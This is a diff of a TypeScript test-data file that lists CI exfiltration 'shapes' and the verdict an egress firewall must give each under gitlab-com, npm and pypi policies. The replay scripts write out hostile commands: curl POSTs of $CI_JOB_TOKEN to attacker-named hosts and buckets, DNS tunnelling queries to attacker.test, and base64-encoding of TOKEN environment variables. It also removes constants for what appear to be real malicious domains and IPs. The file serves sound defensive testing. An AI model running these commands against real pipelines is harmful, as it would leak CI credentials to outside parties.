@@ -2,96 +2,42 @@
  * The shapes of traffic that incidents and bypasses had, one by one, and the verdict that each must get
  * under the presets gitlab-com, npm and pypi: the list of what a replay has to show, as data.
  */
-import type { PolicySpec } from '../e2e/stage.ts';
 import type { Row } from './incident.ts';
-import { GITHUB_API, KUBERNETES, METADATA, NPM_ADDRESS, type Place } from './places.ts';
+import { passingShapes } from './passing-shapes.ts';
+import { GITHUB_API, KUBERNETES } from './places.ts';
 import { policies } from './policies.ts';
 import { fakeSecrets } from './secrets.ts';
-
-export interface Part {
-  /** A few words where a shape has several parts. */
-  readonly title?: string;
-  /** The everyday policy unless told. */
-  readonly spec?: PolicySpec;
-  /** Run by `sh`; it goes on after what fails. */
-  readonly script: string;
-  /** In place of it, for what must be the very first act of a job. */
-  readonly command?: readonly string[];
-  readonly rows: readonly Row[];
-  /** What arrives though enforcement is on. */
-  readonly arrives?: readonly string[];
-  readonly carriesSecrets?: true;
-  readonly publishes?: true;
-  /** What the job's log must hold, or `secrets`. */
-  readonly log?: RegExp | 'secrets';
-  /** What its log holds with enforcement off; the same unless told. */
-  readonly controlLog?: RegExp;
-  /** What arrives with enforcement off, in full; names that the DNS server was asked as `DNS name`. */
-  readonly control: readonly string[];
-  /** Programs without which it cannot be tried. */
-  readonly needs?: readonly string[];
-}
-
-export interface Shape {
-  readonly number: number;
-  readonly shape: string;
-  readonly verdict: 'refused' | 'limit';
-  /** What is expected, in words. */
-  readonly expected: string;
-  /** What of it cannot be shown on one machine, and why; empty when nothing. */
-  readonly notHere: string;
-  readonly parts: readonly Part[];
-}
+import type { Shape } from './shape.ts';
+import {
+  axios,
+  bare,
+  cluster,
+  curl,
+  doh,
+  drop,
+  GIT,
+  github,
+  host,
+  metadata,
+  metadata6,
+  node,
+  post,
+  resolvers,
+  six,
+} from './shape-places.ts';
 
 const gitlab = policies.gitlab.spec;
-const drop = { name: 'scan.aquasecurtiy.org', address: '45.148.10.212' } as const;
-const axios = { name: 'sfrclak.com', address: '142.11.206.73' } as const;
-const host = { name: 'gitlab.com', address: '172.65.251.78' } as const;
-const bare = '203.0.113.66';
-const six = '2001:db8:1::66';
-const node = { address: '10.0.0.5', port: 10250 } as const;
-const resolvers = { udp: '9.9.9.9', tcp: '203.0.113.99' } as const;
-const metadata = [METADATA, '169.254.170.2', '169.254.170.23', '100.100.100.200'] as const;
-const metadata6 = 'fd00:ec2::254';
-const doh = { name: 'dns.google', address: '8.8.8.8' } as const;
-const github = '140.82.121.4';
-const GIT = 'GET github.com/victim/library.git/info/refs?service=git-upload-pack';
-const cluster = 'kubernetes.default.svc';
-const curl = 'curl -sSk -m 5 -o /dev/null';
-const post = `${curl} -d "$CI_JOB_TOKEN"`;
-
-/** Where the shapes go, besides what every replay has. */
-export const shapePlaces: readonly Place[] = [
-  drop,
-  { ...drop, port: 4444, kind: 'tcp' },
-  { ...axios, port: 8000, kind: 'http' },
-  host,
-  { ...host, port: 22, kind: 'tcp' },
-  { ...host, kind: 'udp' },
-  { address: bare, port: 8080, kind: 'http' },
-  { address: bare, port: 8443 },
-  { address: resolvers.udp, port: 53, kind: 'udp' },
-  { address: resolvers.tcp, port: 53, kind: 'tcp' },
-  ...metadata.map((address) => ({ address, port: 80, kind: 'http' as const })),
-  { address: metadata6, port: 80, kind: 'http' },
-  doh,
-  { name: cluster, address: KUBERNETES },
-  node,
-  { address: six },
-  { address: github, port: 22, kind: 'tcp' },
-];
-
 const by = 'sh > curl';
 const refused = (to: string, reason: Row['reason'] = 'default', who = by): Row => ({
   ...{ to, by: who, reason },
 });
 
 /** The longest label that DNS has, of a secret's bytes in hex. */
-export const label = Buffer.from(fakeSecrets('shape5').CI_JOB_TOKEN ?? '')
+const label = Buffer.from(fakeSecrets('shape5').CI_JOB_TOKEN ?? '')
   .toString('hex')
   .slice(0, 62);
 
-export const shapes: readonly Shape[] = [
+const refusedShapes: readonly Shape[] = [
   {
     number: 1,
     shape: 'POST to an unknown HTTPS domain',
@@ -145,8 +91,8 @@ export const shapes: readonly Shape[] = [
     parts: [
       {
         script: `
-          dig +tries=1 +timeout=1 @${resolvers.udp} u.attacker.test
-          dig +tries=1 +timeout=1 +tcp @${resolvers.tcp} t.attacker.test`,
+          dig +tries=1 +timeout=2 @${resolvers.udp} u.attacker.test
+          dig +tries=1 +timeout=2 +tcp @${resolvers.tcp} t.attacker.test`,
         rows: [
           refused('u.attacker.test', 'default', 'sh > dig'),
           refused('t.attacker.test', 'default', 'sh > dig'),
@@ -249,24 +195,6 @@ export const shapes: readonly Shape[] = [
     ],
   },
   {
-    number: 9,
-    shape: 'an allowed CDN address with the name of another customer',
-    verdict: 'limit',
-    expected: 'passes: names are not pinned to TLS yet',
-    notHere: '',
-    parts: [
-      {
-        script: `
-          ${curl} "$NPM_REGISTRY-/ping"
-          curl -sSk -m 5 -o /dev/null -w 'foreign name: %{http_code}' \\
-            --resolve discord.com:443:${NPM_ADDRESS} https://discord.com/-/ping`,
-        rows: [],
-        log: /foreign name: 200/,
-        control: [],
-      },
-    ],
-  },
-  {
     number: 10,
     shape: 'POST /user/repos to api.github.com',
     verdict: 'refused',
@@ -302,7 +230,7 @@ export const shapes: readonly Shape[] = [
         title: 'a git dependency of npm, which falls back to SSH',
         spec: policies.github.spec,
         script: `
-          export GIT_SSH_COMMAND='ssh -oConnectTimeout=2 -oStrictHostKeyChecking=no'
+          export GIT_SSH_COMMAND='ssh -oConnectTimeout=4 -oStrictHostKeyChecking=no'
           npm install github:victim/library`,
         rows: [refused(`github.com@${github}:22`, 'port', 'sh > npm install > git > sh > ssh')],
         arrives: [GIT],
@@ -378,47 +306,8 @@ export const shapes: readonly Shape[] = [
       },
     ],
   },
-  {
-    number: 15,
-    shape: 'secrets printed to the job log',
-    verdict: 'limit',
-    expected: 'passes: not a matter of egress',
-    notHere: '',
-    parts: [
-      {
-        script: 'env | grep TOKEN | base64 -w0 | base64 -w0',
-        rows: [],
-        log: 'secrets',
-        control: [],
-      },
-    ],
-  },
-  {
-    number: 16,
-    shape: 'secrets sent to an allowed destination: gitlab.com, any bucket, a publish',
-    verdict: 'limit',
-    expected: 'passes: a policy says where, not what',
-    notHere: 'Bytes per job are not reported yet.',
-    parts: [
-      {
-        script: `
-          ${post} https://${host.name}/api/v4/projects/1/issues
-          ${post} https://storage.googleapis.com/upload/storage/v1/b/attacker/o
-          node -e "const w = require('$WIRE'); w.publish(w.loot())"`,
-        rows: [],
-        arrives: [
-          `POST ${host.name}/api/v4/projects/1/issues`,
-          'POST storage.googleapis.com/upload/storage/v1/b/attacker/o',
-        ],
-        carriesSecrets: true,
-        publishes: true,
-        control: [
-          `DNS ${host.name}`,
-          `POST ${host.name}/api/v4/projects/1/issues`,
-          'DNS storage.googleapis.com',
-          'POST storage.googleapis.com/upload/storage/v1/b/attacker/o',
-        ],
-      },
-    ],
-  },
 ];
+
+export const shapes: readonly Shape[] = [...refusedShapes, ...passingShapes].sort(
+  (one, other) => one.number - other.number,
+);
